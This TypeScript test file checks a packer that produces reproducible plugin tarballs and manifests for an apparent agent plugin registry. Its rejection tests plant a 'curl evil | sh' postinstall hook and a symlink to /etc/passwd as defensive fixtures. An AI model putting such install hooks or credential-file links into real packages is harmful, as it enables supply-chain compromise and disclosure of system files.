import { chmod, mkdir, readFile, stat, symlink, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { createGunzip } from "node:zlib";
import { Readable } from "node:stream";
import { Parser, type ReadEntry } from "tar";
import { describe, expect, it } from "vitest";
import { sha512, toHex, validateManifest } from "@agentgov/registry-protocol";
import { copyFixture, tempDir } from "../testing/fixtures/fixture.js";
import { pack } from "./pack.js";

const CREATED_AT = "2026-11-21T05:00:00Z";
/** Golden SHA-512 of the fixture's tarball (REGISTRY.md §7.1: byte-identical on every run and OS). */
const GOLDEN_TARBALL_SHA512 =
  "379462fc2dd26ded7e2572af961d73e37251a6999afdb070150fe25eb75c58243b80ffe4a1f9a991840d624ea65dd66e12429a0545567e30dc9027a857dddbbd";

interface Entry { path: string; type: string; mode: number; uid: number; gid: number; uname: string; mtime: number }

async function entriesOf(tarball: Uint8Array): Promise<Entry[]> {
  const entries: Entry[] = [];
  const parser = new Parser({ strict: true, onReadEntry: (e: ReadEntry) => {
    entries.push({ path: e.path, type: e.type, mode: e.mode ?? -1, uid: e.uid ?? 0, gid: e.gid ?? 0, uname: e.uname ?? "", mtime: e.mtime?.getTime() ?? 0 });
    e.resume();
  } });
  await new Promise<void>((resolve, reject) => {
    parser.on("end", resolve);
    parser.on("error", reject);
    parser.end(Buffer.from(tarball));
  });
  return entries;
}

describe("pack", () => {
  it("produces a byte-identical tarball and manifest on every run (golden)", async () => {
    const dir = await copyFixture();
    const a = await pack(dir, { outDir: await tempDir(), createdAt: CREATED_AT });
    const other = await copyFixture();
    await chmod(join(other, "lib/index.js"), 0o600);
    const b = await pack(other, { outDir: await tempDir(), createdAt: CREATED_AT });
    expect(Buffer.compare(Buffer.from(a.tarball), Buffer.from(b.tarball))).toBe(0);
    expect(await readFile(a.manifestPath, "utf8")).toBe(await readFile(b.manifestPath, "utf8"));
    expect(toHex(sha512(a.tarball))).toBe(GOLDEN_TARBALL_SHA512);
    expect(a.manifest.artifact.sha512).toBe(GOLDEN_TARBALL_SHA512);
  });

  it("writes <file>.tgz and <file>.manifest.json with + for the scope", async () => {
    const out = await tempDir();
    const result = await pack(await copyFixture(), { outDir: out, createdAt: CREATED_AT });
    expect(result.tarballPath).toBe(join(out, "@acme+web-search-1.4.2.tgz"));
    expect(result.manifestPath).toBe(join(out, "@acme+web-search-1.4.2.manifest.json"));
    expect(new Uint8Array(await readFile(result.tarballPath))).toEqual(result.tarball);
    expect(validateManifest(JSON.parse(await readFile(result.manifestPath, "utf8")))).toEqual(result.manifest);
    expect(result.manifest.artifact.filename).toBe("web-search-1.4.2.tgz");
    expect(result.manifest.entry.main).toBe("package/lib/index.js");
    expect(result.manifest.files.map((f) => [f.path, f.exec])).toEqual([
      ["package/bin/run.sh", true], ["package/lib/index.js", false], ["package/lib/util.js", false],
      ["package/package.json", false], ["package/tools/web_search.json", false],
    ]);
    expect(result.manifest.capabilities.tools[0]?.definitionSha256).toMatch(/^[0-9a-f]{64}$/);
  });

  it("archives sorted entries under package/ with 0644/0755, uid/gid 0, no owner, fixed mtime", async () => {
    const result = await pack(await copyFixture(), { outDir: await tempDir(), createdAt: CREATED_AT });
    const entries = await entriesOf(result.tarball);
    expect(entries.map((e) => e.path)).toEqual([
      "package/", "package/bin/", "package/bin/run.sh", "package/lib/", "package/lib/index.js", "package/lib/util.js",
      "package/package.json", "package/tools/", "package/tools/web_search.json",
    ]);
    for (const e of entries) {
      expect(e.uid).toBe(0);
      expect(e.gid).toBe(0);
      expect(e.uname).toBe("");
      expect(e.mode).toBe(e.type === "Directory" || e.path.endsWith(".sh") ? 0o755 : 0o644);
      if (e.type === "File") expect(e.mtime).toBe(Date.parse("1985-10-26T08:15:00Z"));
    }
    // portable gzip header: mtime 0, OS byte 255 (unknown)
    expect([...result.tarball.subarray(4, 8)]).toEqual([0, 0, 0, 0]);
    expect(result.tarball[9]).toBe(255);
    const pkg: unknown = JSON.parse(await new Promise<string>((resolve, reject) => {
      const chunks: Buffer[] = [];
      const parser = new Parser({ onReadEntry: (e: ReadEntry) => {
        if (e.path === "package/package.json") e.on("data", (c: Buffer) => chunks.push(c)).on("end", () => { resolve(Buffer.concat(chunks).toString()); });
        else e.resume();
      } });
      parser.on("error", reject);
      Readable.from([Buffer.from(result.tarball)]).pipe(createGunzip()).on("data", (c: Buffer) => parser.write(c)).on("end", () => parser.end());
    }));
    expect(pkg).toEqual({ description: "Web search tool", exports: "./lib/index.js", license: "MIT", name: "@acme/web-search", type: "module", version: "1.4.2" });
  });

  it("is independent of the source's mtimes", async () => {
    const dir = await copyFixture();
    const a = await pack(dir, { outDir: await tempDir(), createdAt: CREATED_AT });
    await writeFile(join(dir, "lib/util.js"), await readFile(join(dir, "lib/util.js")));
    const b = await pack(dir, { outDir: await tempDir(), createdAt: CREATED_AT });
    expect(b.manifest.artifact.sha512).toBe(a.manifest.artifact.sha512);
  });

  it("rejects a source symlink", async () => {
    const dir = await copyFixture();
    await symlink("/etc/passwd", join(dir, "lib/passwd"));
    await expect(pack(dir, { outDir: await tempDir() })).rejects.toMatchObject({ code: "REGISTRY_ARCHIVE_UNSAFE", path: "lib/passwd" });
  });

  it("rejects a symlinked folder and an unportable file name", async () => {
    const dir = await copyFixture();
    await symlink(join(dir, "lib"), join(dir, "alias"));
    await expect(pack(dir, { outDir: await tempDir() })).rejects.toMatchObject({ code: "REGISTRY_ARCHIVE_UNSAFE" });
    const other = await copyFixture();
    await writeFile(join(other, "lib/bad name.js"), "x");
    await expect(pack(other, { outDir: await tempDir() })).rejects.toMatchObject({ code: "REGISTRY_ARCHIVE_UNSAFE" });
  });

  it("rejects install scripts and foreign package.json keys", async () => {
    const dir = await copyFixture();
    await writeFile(join(dir, "package.json"), '{"scripts":{"postinstall":"curl evil | sh"}}');
    await expect(pack(dir, { outDir: await tempDir() })).rejects.toMatchObject({ code: "REGISTRY_SCRIPTS_FORBIDDEN" });
    await writeFile(join(dir, "package.json"), '{"dependencies":{"x":"1"}}');
    await expect(pack(dir, { outDir: await tempDir() })).rejects.toMatchObject({ code: "REGISTRY_MANIFEST_INVALID" });
  });

  it("rejects a tool definition that is not packed or names another tool", async () => {
    const dir = await copyFixture();
    await writeFile(join(dir, "tools/web_search.json"), '{"name":"other","description":"d","inputSchema":{}}');
    await expect(pack(dir, { outDir: await tempDir() })).rejects.toMatchObject({ code: "REGISTRY_MANIFEST_INVALID" });
  });

  it("rejects an unquoted numeric version and an entry outside the files", async () => {
    const dir = await copyFixture();
    const yaml = await readFile(join(dir, "agentgov-plugin.yaml"), "utf8");
    await writeFile(join(dir, "agentgov-plugin.yaml"), yaml.replace('version: "1.4.2"', "version: 1.10"));
    await expect(pack(dir, { outDir: await tempDir() })).rejects.toMatchObject({ code: "REGISTRY_MANIFEST_INVALID", path: "version" });
    await writeFile(join(dir, "agentgov-plugin.yaml"), yaml.replace("main: lib/index.js", "main: lib/missing.js"));
    await expect(pack(dir, { outDir: await tempDir() })).rejects.toMatchObject({ code: "REGISTRY_MANIFEST_INVALID", path: "entry.main" });
    await writeFile(join(dir, "agentgov-plugin.yaml"), yaml.replace("main: lib/index.js", "main: ../x.js"));
    await expect(pack(dir, { outDir: await tempDir() })).rejects.toMatchObject({ code: "REGISTRY_MANIFEST_INVALID", path: "entry.main" });
  });

  it("does not pack its own outputs when writing into the plugin folder", async () => {
    const dir = await copyFixture();
    const a = await pack(dir, { outDir: dir, createdAt: CREATED_AT });
    const b = await pack(dir, { outDir: dir, createdAt: CREATED_AT });
    expect(b.manifest.artifact.sha512).toBe(a.manifest.artifact.sha512);
    expect((await stat(b.tarballPath)).size).toBe(b.manifest.artifact.size);
  });

  it("creates the output folder", async () => {
    const out = join(await tempDir(), "nested", "out");
    await mkdir(join(out, ".."), { recursive: true });
    const result = await pack(await copyFixture(), { outDir: out, createdAt: CREATED_AT });
    expect((await stat(result.tarballPath)).isFile()).toBe(true);
  });
});
